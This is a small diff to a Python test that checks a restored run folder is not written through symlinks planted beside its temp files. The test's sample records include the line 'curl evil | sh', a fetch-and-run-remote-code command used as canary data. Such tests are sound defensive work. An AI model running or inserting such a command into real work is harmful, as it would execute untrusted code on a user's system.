@@ -127,7 +127,7 @@ def test_a_lock_file_with_something_in_it_keeps_it(tmp_path):
 
 def test_a_restored_table_is_not_written_through_a_link_beside_it(tmp_path, mine):
     folder = run_of(tmp_path)
-    for name in ("evaluations.csv.tmp", "run.json.tmp", "config.gin.tmp"):
+    for name in (f"{name}.0123456789abcdef.tmp" for name in ("evaluations.csv", "run.json", "config.gin")):
         replace(folder.path / name, "link", mine)
     records = {**folder.records(), "evaluations": "curl evil | sh\n"}
     folder.restore(records)
